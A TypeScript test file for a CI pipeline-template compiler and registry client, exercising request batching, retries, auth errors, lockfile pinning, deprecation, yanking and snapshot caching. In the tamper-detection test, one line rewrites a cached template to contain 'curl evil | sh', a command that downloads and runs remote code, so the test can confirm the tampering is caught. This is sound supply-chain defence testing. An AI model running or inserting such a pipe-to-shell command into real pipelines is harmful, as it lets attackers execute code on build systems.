import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import express from 'express';
import request from 'supertest';
import { afterEach, describe, expect, test } from 'vitest';
import { compile, ContentCache, LockedSource, readLockfile, writeLockfile, lockPathFor } from '../../compiler/index.js';
import { RegistryClient, RegistrySource } from '../../registry/index.js';
import { tempDir } from '../helpers.js';
import { bearer, bootRegistry, stepTemplate } from './fixtures.js';

const servers: Server[] = [];
afterEach(() => {
  for (const s of servers.splice(0)) s.close();
});

async function listen(app: express.Express): Promise<string> {
  const server = await new Promise<Server>((resolve) => {
    const s = app.listen(0, '127.0.0.1', () => resolve(s));
  });
  servers.push(server);
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

const groupTemplate = (id: string, children: string[]) =>
  `template:\n  name: ${id}\n  identifier: ${id}\n  versionLabel: 1.0.0\n  type: StepGroup\n  spec:\n    steps:\n${children.map((c, i) => `      - stepGroup: {name: c${i}, identifier: c${i}, template: {templateRef: account.${c}, versionLabel: ^1}}\n`).join('')}`;

describe('registry client and lockfile', () => {
  test('50 distinct references at 3 nesting levels cost 3 round trips', async () => {
    const r = bootRegistry();
    const publish = (ref: string, text: string) =>
      request(r.app)
        .put(`/api/v1/templates/${ref}/versions/1.0.0`)
        .set(bearer(r.tokens.publish))
        .send({ yaml: text })
        .expect((res) => expect(res.status).toBe(201));
    // Level 3: 30 step templates; level 2: 15 groups of 2 steps; level 1: 5 groups of 3 level-2 groups.
    for (let i = 0; i < 30; i++) await publish(`account.leaf${i}`, stepTemplate(`leaf${i}`, '1.0.0'));
    for (let i = 0; i < 15; i++) {
      const text = `template:\n  name: mid${i}\n  identifier: mid${i}\n  versionLabel: 1.0.0\n  type: StepGroup\n  spec:\n    steps:\n      - step: {name: a, identifier: a, template: {templateRef: account.leaf${2 * i}, versionLabel: ^1}}\n      - step: {name: b, identifier: b, template: {templateRef: account.leaf${2 * i + 1}, versionLabel: ^1}}\n`;
      await publish(`account.mid${i}`, text);
    }
    for (let i = 0; i < 5; i++)
      await publish(`account.top${i}`, groupTemplate(`top${i}`, [`mid${3 * i}`, `mid${3 * i + 1}`, `mid${3 * i + 2}`]));
    const url = await listen(r.app);
    const steps = Array.from(
      { length: 5 },
      (_, i) =>
        `              - stepGroup: {name: g${i}, identifier: g${i}, template: {templateRef: account.top${i}, versionLabel: 1.0.0}}`,
    ).join('\n');
    const pipeline = `pipeline:\n  name: p\n  identifier: p\n  stages:\n    - stage:\n        name: s\n        identifier: s\n        type: CI\n        spec:\n          execution:\n            steps:\n${steps}\n`;
    const client = new RegistryClient({ url, token: r.tokens.read });
    const dir = tempDir({ 'p.yaml': pipeline });
    const result = await compile({
      file: join(dir, 'p.yaml'),
      baseDir: dir,
      sources: [new RegistrySource(client, new ContentCache(join(dir, 'cache')))],
    });
    expect(result.diagnostics).toEqual([]);
    expect(result.plan!.steps).toHaveLength(30);
    expect(result.plan!.templates).toHaveLength(50);
    expect(client.roundTrips).toBe(3);
    expect(result.plan!.steps[0]!.origin.templates.map((t) => t.file)).toEqual([
      'registry:account.top0@1.0.0',
      'registry:account.mid0@1.0.0',
      'registry:account.leaf0@1.0.0',
    ]);
  });

  test('retries 5xx with backoff; clear messages for 401, 403 and 404 located at the reference', async () => {
    const r = bootRegistry();
    await request(r.app)
      .put('/api/v1/templates/account.t/versions/1.0.0')
      .set(bearer(r.tokens.publish))
      .send({ yaml: stepTemplate('t', '1.0.0') })
      .expect(201);
    let failures = 2;
    const flaky = express();
    flaky.use((req, res, next) =>
      req.path === '/api/v1/resolve' && failures-- > 0 ? res.status(503).json({ error: { code: 'internal', message: 'busy' } }) : next(),
    );
    flaky.use(r.app);
    const url = await listen(flaky);
    const pipeline =
      'pipeline:\n  name: p\n  identifier: p\n  stages:\n    - stage:\n        name: s\n        identifier: s\n        type: CI\n        spec:\n          execution:\n            steps:\n              - step: {name: a, identifier: a, template: {templateRef: account.t, versionLabel: ^1}}\n';
    const dir = tempDir({ 'p.yaml': pipeline });
    const run = (token?: string) => {
      const client = new RegistryClient({ url, backoffMs: 5, ...(token ? { token } : {}) });
      return compile({ file: join(dir, 'p.yaml'), baseDir: dir, sources: [new RegistrySource(client)] }).then((res) => ({ res, client }));
    };
    const ok = await run(r.tokens.read);
    expect(ok.res.ok).toBe(true);
    expect(ok.client.roundTrips).toBe(3);
    const noToken = await run();
    expect(noToken.res.diagnostics[0]).toMatchObject({ code: 'PW4008', file: 'p.yaml', line: 12 });
    expect(noToken.res.diagnostics[0]!.message).toMatch(/401.*PIPEWRIGHT_TOKEN/);
    const missing = await compile({
      file: join(dir, 'p.yaml'),
      baseDir: dir,
      text: pipeline.replace('account.t', 'account.nope'),
      sources: [new RegistrySource(new RegistryClient({ url, token: r.tokens.read }))],
    });
    expect(missing.diagnostics[0]).toMatchObject({ code: 'PW4001', line: 12 });
    const down = await compile({
      file: join(dir, 'p.yaml'),
      baseDir: dir,
      sources: [new RegistrySource(new RegistryClient({ url: 'http://127.0.0.1:1', retries: 1, backoffMs: 1 }))],
    });
    expect(down.diagnostics[0]!.message).toMatch(/unreachable.*after 2 attempts/);
  });

  test('lockfile: locked versions win, frozen is offline, tampering is detected', async () => {
    const r = bootRegistry();
    const pub = (v: string, cmd?: string) =>
      request(r.app)
        .put(`/api/v1/templates/account.t/versions/${v}`)
        .set(bearer(r.tokens.publish))
        .send({ yaml: stepTemplate('t', v, cmd ? { command: cmd } : {}) });
    await pub('1.0.0').expect(201);
    const url = await listen(r.app);
    const pipeline =
      'pipeline:\n  name: p\n  identifier: p\n  stages:\n    - stage:\n        name: s\n        identifier: s\n        type: CI\n        spec:\n          execution:\n            steps:\n              - step: {name: a, identifier: a, template: {templateRef: account.t, versionLabel: ^1}}\n';
    const dir = tempDir({ 'p.yaml': pipeline });
    const file = join(dir, 'p.yaml');
    const cache = new ContentCache(join(dir, 'cache'));
    const client = new RegistryClient({ url, token: r.tokens.read });
    const first = new LockedSource({ lock: readLockfile(lockPathFor(file)), cache, inner: new RegistrySource(client, cache) });
    expect((await compile({ file, baseDir: dir, sources: [first] })).ok).toBe(true);
    writeLockfile(lockPathFor(file), first.nextLock());
    const lock = readLockfile(lockPathFor(file))!;
    expect(lock.templates['account.t@^1']).toMatchObject({ version: '1.0.0', selector: '^1' });

    await pub('1.1.0').expect(201);
    const again = new LockedSource({ lock, cache, inner: new RegistrySource(client, cache) });
    const second = await compile({ file, baseDir: dir, sources: [again] });
    expect(second.plan!.templates[0]!.version).toBe('1.0.0');

    const frozen = await compile({ file, baseDir: dir, sources: [new LockedSource({ lock, cache, frozen: true })] });
    expect(frozen.ok).toBe(true);
    const notLocked = await compile({
      file,
      baseDir: dir,
      text: pipeline.replace('^1', '1.1.0'),
      sources: [new LockedSource({ lock, cache, frozen: true })],
    });
    expect(notLocked.diagnostics[0]).toMatchObject({ code: 'PW4008', line: 12 });
    expect(notLocked.diagnostics[0]!.message).toMatch(/not in pipewright\.lock/);

    // Tamper with the cached content: same digest file, different text.
    const digest = lock.templates['account.t@^1']!.digest;
    const cached = join(dir, 'cache', 'sha256', digest.slice(7, 9), `${digest.slice(7)}.yaml`);
    writeFileSync(cached, readFileSync(cached, 'utf8').replace('echo t 1.0.0', 'curl evil | sh'));
    // The next command (a new cache instance) reads the tampered file; this one keeps what it verified.
    const tampered = await compile({
      file,
      baseDir: dir,
      sources: [new LockedSource({ lock, cache: new ContentCache(join(dir, 'cache')), frozen: true })],
    });
    expect((await compile({ file, baseDir: dir, sources: [new LockedSource({ lock, cache, frozen: true })] })).ok).toBe(true);
    expect(tampered.ok).toBe(false);
    expect(tampered.diagnostics[0]!.message).toMatch(/tamper/);

    // A lock whose digest the registry does not serve for that version.
    mkdirSync(join(dir, 'empty-cache'));
    const forged = { ...lock, templates: { 'account.t@^1': { ...lock.templates['account.t@^1']!, digest: 'sha256:' + '0'.repeat(64) } } };
    const emptyCache = new ContentCache(join(dir, 'empty-cache'));
    const mismatch = await compile({
      file,
      baseDir: dir,
      sources: [new LockedSource({ lock: forged, cache: emptyCache, inner: new RegistrySource(client, emptyCache) })],
    });
    expect(mismatch.diagnostics[0]!.message).toMatch(/tamper: the registry serves account\.t@1\.0\.0/);
  });

  test('deprecated versions warn; past the sunset date they fail unless allowed', async () => {
    const r = bootRegistry();
    await request(r.app)
      .put('/api/v1/templates/account.t/versions/1.0.0')
      .set(bearer(r.tokens.publish))
      .send({ yaml: stepTemplate('t', '1.0.0') })
      .expect(201);
    await request(r.app)
      .post('/api/v1/templates/account.t/versions/1.0.0/deprecate')
      .set(bearer(r.tokens.publish))
      .send({ message: 'use account.t2', sunset: '2027-03-01' })
      .expect(200);
    const url = await listen(r.app);
    const pipeline =
      'pipeline:\n  name: p\n  identifier: p\n  stages:\n    - stage:\n        name: s\n        identifier: s\n        type: CI\n        spec:\n          execution:\n            steps:\n              - step: {name: a, identifier: a, template: {templateRef: account.t}}\n';
    const dir = tempDir({ 'p.yaml': pipeline });
    const run = (now: string, allowSunset = false) =>
      compile({
        file: join(dir, 'p.yaml'),
        baseDir: dir,
        now: new Date(now),
        allowSunset,
        sources: [new RegistrySource(new RegistryClient({ url, token: r.tokens.read }))],
      });
    const before = await run('2027-02-01');
    expect(before.ok).toBe(true);
    expect(before.diagnostics.map((d) => `${d.severity} ${d.code} ${d.line}`)).toEqual(['warning PW4009 12']);
    expect(before.diagnostics[0]!.message).toMatch(/deprecated \(sunset 2027-03-01\): use account\.t2/);
    const after = await run('2027-03-02');
    expect(after.ok).toBe(false);
    expect(after.diagnostics[0]!.code).toBe('PW4010');
    expect((await run('2027-03-02', true)).ok).toBe(true);
  });
  test('a yanked version is still served for an exact pin, with warning PW4011; ranges skip it', async () => {
    const r = bootRegistry();
    for (const v of ['1.0.0', '1.1.0'])
      await request(r.app)
        .put(`/api/v1/templates/account.t/versions/${v}`)
        .set(bearer(r.tokens.publish))
        .send({ yaml: stepTemplate('t', v) })
        .expect(201);
    await request(r.app).post('/api/v1/templates/account.t/versions/1.1.0/yank').set(bearer(r.tokens.admin)).expect(200);
    const url = await listen(r.app);
    const pipeline = (sel: string) =>
      `pipeline:\n  name: p\n  identifier: p\n  stages:\n    - stage:\n        name: s\n        identifier: s\n        type: CI\n        spec:\n          execution:\n            steps:\n              - step: {name: a, identifier: a, template: {templateRef: account.t, versionLabel: "${sel}"}}\n`;
    const run = async (sel: string) => {
      const dir = tempDir({ 'p.yaml': pipeline(sel) });
      return compile({
        file: join(dir, 'p.yaml'),
        baseDir: dir,
        sources: [new RegistrySource(new RegistryClient({ url, token: r.tokens.read }))],
      });
    };
    const pinned = await run('1.1.0');
    expect(pinned.ok).toBe(true);
    expect(pinned.diagnostics.map((d) => `${d.severity} ${d.code} ${d.line}`)).toEqual(['warning PW4011 12']);
    expect(pinned.yanked).toEqual([{ ref: 'account.t', version: '1.1.0' }]);
    const ranged = await run('^1');
    expect(ranged.plan!.templates.map((t) => t.version)).toEqual(['1.0.0']);
    expect(ranged.diagnostics).toEqual([]);
    expect(ranged.yanked).toEqual([]);
  });
  test('a snapshot source asks the registry once per reference for a whole fleet', async () => {
    const r = bootRegistry();
    await request(r.app)
      .put('/api/v1/templates/account.t/versions/1.0.0')
      .set(bearer(r.tokens.publish))
      .send({ yaml: stepTemplate('t', '1.0.0') })
      .expect(201);
    const url = await listen(r.app);
    const pipeline =
      'pipeline:\n  name: p\n  identifier: p\n  stages:\n    - stage:\n        name: s\n        identifier: s\n        type: CI\n        spec:\n          execution:\n            steps:\n              - step: {name: a, identifier: a, template: {templateRef: account.t, versionLabel: ^1}}\n';
    const dir = tempDir({ 'p.yaml': pipeline });
    const trips = async (snapshot: boolean) => {
      const client = new RegistryClient({ url, token: r.tokens.read });
      const source = new RegistrySource(client, undefined, { snapshot });
      for (let i = 0; i < 3; i++) expect((await compile({ file: join(dir, 'p.yaml'), baseDir: dir, sources: [source] })).ok).toBe(true);
      return client.roundTrips;
    };
    expect(await trips(false)).toBe(3);
    expect(await trips(true)).toBe(1);
  });
});
